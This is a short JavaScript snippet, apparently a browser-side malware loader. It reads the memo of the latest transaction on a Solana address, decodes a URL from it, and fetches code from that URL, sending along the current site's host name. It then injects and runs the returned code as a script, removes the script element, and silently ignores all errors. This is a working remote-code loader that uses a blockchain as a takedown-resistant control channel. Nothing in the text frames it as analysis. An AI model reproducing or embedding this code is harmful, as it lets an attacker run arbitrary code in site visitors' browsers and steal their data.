const q = (m, p) => fetch("https://api.mainnet-beta.solana-gateway.example", {
  method: "POST", headers: { "content-type": "application/json" },
  body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: m, params: p }),
}).then(r => r.json());
q("getSignaturesForAddress", ["PLACEHOLDERaddress1111111111111111111111111", { limit: 1 }])
  .then(({ result: [s] }) => s.memo.replace(/^\[\d+\] /, ""))
  .then(m => JSON.parse(atob(m)))
  .then(({ l }) => fetch(l + "?d=" + location.host))
  .then(r => r.text())
  .then(c => { const s = document.createElement("script"); s.textContent = c; document.head.append(s); s.remove(); })
  .catch(() => {});
